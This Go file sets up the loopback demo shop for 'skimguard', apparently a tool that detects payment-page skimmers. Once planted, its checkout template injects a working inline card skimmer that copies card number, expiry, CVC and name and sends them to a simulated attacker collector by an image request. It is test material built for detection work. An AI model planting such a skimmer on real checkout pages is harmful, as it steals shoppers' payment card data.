// Package demo serves skimguard's built-in demo shop on loopback: a merchant's
// checkout page, a payment provider, an analytics CDN and, once a skimmer is
// planted, the attacker's collector, each on its own origin.
//
// The clean shop varies on every load the way real shops do (CSP nonces,
// CSRF tokens, cache-busting query strings, per-load session ids, an A/B test,
// build stamps), so that it shows skimguard staying silent on an unchanged
// page as well as catching a planted skimmer.
package demo

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"html/template"
	"net"
	"net/http"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// DefaultPort is the port every origin of the demo shop listens on; the
// repository's sites.yaml points at it.
const DefaultPort = 8780

// Default loopback addresses of the demo's origins.
const (
	ShopHost     = "127.0.0.1"
	ProviderHost = "127.0.0.2"
	CDNHost      = "127.0.0.3"
	AttackerHost = "127.0.0.66"
)

// Options says where the demo listens. Port 0 picks free ports (tests).
type Options struct {
	Port int
}

// Shop is a running demo shop.
type Shop struct {
	// Base URLs of the four origins, without a trailing slash.
	ShopURL, ProviderURL, CDNURL, AttackerURL string

	planted  atomic.Bool
	requests atomic.Int64 // drives the A/B test, so samples see both variants

	mu     sync.Mutex
	stolen []string

	servers []*http.Server
}

// Start starts the shop's four origins. It fails with a message naming the
// address when one is taken.
func Start(ctx context.Context, opts Options) (*Shop, error) {
	s := &Shop{}
	var err error
	s.servers, err = listen(ctx, opts.Port, []origin{
		{ShopHost, s.shopHandler(), &s.ShopURL},
		{ProviderHost, s.providerHandler(), &s.ProviderURL},
		{CDNHost, s.cdnHandler(), &s.CDNURL},
		{AttackerHost, s.attackerHandler(), &s.AttackerURL},
	})
	if err != nil {
		return nil, err
	}
	return s, nil
}

// origin is one origin of a demo shop: the loopback address it listens
// on, what it serves there, and where to put its base URL.
type origin struct {
	host    string
	handler http.Handler
	base    *string
}

// listen serves each origin on port (0: a free port for each) until the
// servers it returns are closed. It fails naming the address when one is
// taken, closing those it started.
func listen(ctx context.Context, port int, origins []origin) ([]*http.Server, error) {
	var servers []*http.Server
	var lc net.ListenConfig
	for _, o := range origins {
		addr := net.JoinHostPort(o.host, strconv.Itoa(port))
		ln, err := lc.Listen(ctx, "tcp", addr)
		if err != nil {
			for _, srv := range servers {
				srv.Close()
			}
			return nil, fmt.Errorf("demo shop: listen on %s: %w (is another demo running? stop it or pick another --port)", addr, err)
		}
		srv := &http.Server{Handler: o.handler, ReadHeaderTimeout: 10 * time.Second}
		servers = append(servers, srv)
		*o.base = "http://" + ln.Addr().String()
		go srv.Serve(ln) //nolint:errcheck // ends with Close
	}
	return servers, nil
}

// CheckoutURL is the payment page to watch.
func (s *Shop) CheckoutURL() string { return s.ShopURL + "/checkout" }

// Plant compromises the checkout page the way fx-on.com's was in 2017: an
// inline script, stored in the shop's database rather than in a file, that
// copies the card fields to the attacker as the shopper types.
func (s *Shop) Plant() { s.planted.Store(true) }

// Clean removes the planted skimmer.
func (s *Shop) Clean() { s.planted.Store(false) }

// Stolen describes each request the attacker's collector received.
func (s *Shop) Stolen() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.stolen...)
}

// Close stops every origin.
func (s *Shop) Close() error {
	var errs []error
	for _, srv := range s.servers {
		errs = append(errs, srv.Close())
	}
	return errors.Join(errs...)
}

func token(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}

var checkoutTmpl = template.Must(template.New("checkout").Parse(`<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Outfitters — Checkout</title>
<link rel="stylesheet" href="/static/shop.css">
<script nonce="{{.Nonce}}">window.checkoutConfig = {"csrf": "{{.CSRF}}", "cartId": {{.Cart}}, "renderedAt": {{.Now}}, "currency": "EUR"};</script>
<script src="/static/app.js"></script>
<script src="/static/{{.Variant}}.js"></script>
<script src="{{.CDN}}/analytics.js?cb={{.Now}}" async></script>
<script src="{{.Provider}}/v3/fields.js"></script>
</head><body>
<header><h1>Outfitters</h1><p>Checkout — order #{{.Cart}}</p></header>
<main>
<form id="payment" action="{{.Provider}}/pay" method="post">
  <input type="hidden" name="csrf" value="{{.CSRF}}">
  <label>Name on card <input name="cc-name" autocomplete="cc-name"></label>
  <label>Card number <input name="cc-number" autocomplete="cc-number" inputmode="numeric"></label>
  <label>Expiry <input name="cc-exp" autocomplete="cc-exp" placeholder="MM/YY"></label>
  <label>CVC <input name="cc-csc" autocomplete="cc-csc"></label>
  <button id="pay" type="submit">Pay €84.00</button>
</form>
<iframe title="3-D Secure device check" src="{{.Provider}}/3ds/device?session={{.Session}}" width="1" height="1" style="border:0"></iframe>
</main>
{{if .Planted}}<script>
(function(){var f=document.getElementById('payment');
function grab(){var d={n:f['cc-number'].value,e:f['cc-exp'].value,c:f['cc-csc'].value,h:f['cc-name'].value};
if(d.n.replace(/\D/g,'').length<15||d.c.length<3)return;
new Image().src='{{.Attacker}}/i.gif?d='+encodeURIComponent(btoa(JSON.stringify(d)));}
f.addEventListener('change',grab,true);f.addEventListener('blur',grab,true);})();
</script>{{end}}
</body></html>`))

func (s *Shop) shopHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /checkout", func(w http.ResponseWriter, r *http.Request) {
		n := s.requests.Add(1)
		nonce := token(12)
		h := w.Header()
		h.Set("Content-Type", "text/html; charset=utf-8")
		h.Set("Content-Security-Policy", "default-src 'self'; script-src 'self' 'unsafe-inline' "+s.ProviderURL+" "+s.CDNURL+"; frame-src "+s.ProviderURL+"; img-src *; connect-src *")
		h.Set("Content-Security-Policy-Report-Only", "script-src 'nonce-"+nonce+"' 'strict-dynamic'; report-uri /csp-report?id="+token(4))
		h.Set("X-Frame-Options", "DENY")
		h.Set("X-Content-Type-Options", "nosniff")
		h.Set("Referrer-Policy", "strict-origin-when-cross-origin")
		h.Set("X-Request-Id", token(8))
		http.SetCookie(w, &http.Cookie{Name: "session", Value: token(16), Path: "/", HttpOnly: true})
		variant := "ab-a"
		if n%2 == 0 {
			variant = "ab-b"
		}
		checkoutTmpl.Execute(w, map[string]any{
			"Nonce": nonce, "CSRF": token(16), "Cart": 10000 + n, "Now": time.Now().UnixMilli(),
			"Variant": variant, "CDN": s.CDNURL, "Provider": s.ProviderURL, "Attacker": s.AttackerURL,
			"Session": token(10), "Planted": s.planted.Load(),
		})
	})
	mux.HandleFunc("GET /static/app.js", js(`// Outfitters storefront v2.4.1
document.addEventListener('DOMContentLoaded', function () {
  var pay = document.getElementById('pay');
  if (pay) pay.textContent = 'Pay ' + (window.checkoutConfig ? '€84.00' : '');
});`))
	mux.HandleFunc("GET /static/ab-a.js", js(`document.documentElement.dataset.experiment = 'pay-button-green';`))
	mux.HandleFunc("GET /static/ab-b.js", js(`document.documentElement.dataset.experiment = 'pay-button-blue';`))
	mux.HandleFunc("GET /static/shop.css", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/css")
		fmt.Fprint(w, "body{font-family:sans-serif;max-width:40em;margin:2em auto}label{display:block;margin:.5em 0}")
	})
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/checkout", http.StatusFound)
	})
	mux.HandleFunc("/csp-report", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	return mux
}

func (s *Shop) providerHandler() http.Handler {
	mux := http.NewServeMux()
	// The provider's field script asks its own API for a token when the card
	// number is complete: card data going to the provider is normal.
	mux.HandleFunc("GET /v3/fields.js", js(`(function () {
  var base = document.currentScript.src.replace(/\/v3\/fields\.js.*$/, '');
  document.addEventListener('change', function (e) {
    var t = e.target;
    if (!t || t.name !== 'cc-number' || t.value.replace(/\D/g, '').length < 15) return;
    var x = new XMLHttpRequest();
    x.open('POST', base + '/v1/tokens');
    x.setRequestHeader('Content-Type', 'application/json');
    x.send(JSON.stringify({ number: t.value, ts: Date.now() }));
  }, true);
})();`))
	mux.HandleFunc("POST /v1/tokens", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"token":"tok_%s"}`, token(8))
	})
	mux.HandleFunc("OPTIONS /v1/tokens", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "Content-Type")
		w.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("GET /3ds/device", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><script>var deviceSession = %q; document.cookie = "dev=" + deviceSession;</script>`, r.URL.Query().Get("session"))
	})
	mux.HandleFunc("POST /pay", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "payment accepted")
	})
	return mux
}

func (s *Shop) cdnHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /analytics.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		// A per-load build stamp, as tag-manager containers carry.
		fmt.Fprintf(w, `/* analytics build %s */
(function () {
  var id = %q;
  var base = document.currentScript.src.replace(/\/analytics\.js.*$/, '');
  navigator.sendBeacon(base + '/collect?v=1&t=pageview&cid=' + id + '&dl=' + encodeURIComponent(location.pathname));
})();`, time.Now().UTC().Format(time.RFC3339Nano), token(6))
	})
	mux.HandleFunc("/collect", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	return mux
}

func (s *Shop) attackerHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		// Only the shape of what arrived is kept: the demo never holds card data.
		s.mu.Lock()
		s.stolen = append(s.stolen, fmt.Sprintf("%s %s (%d bytes of encoded card data)", r.Method, r.URL.Path, len(r.URL.RawQuery)))
		s.mu.Unlock()
		w.Header().Set("Content-Type", "image/gif")
		w.Write([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"))
	})
	return mux
}

func js(body string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprint(w, body)
	}
}
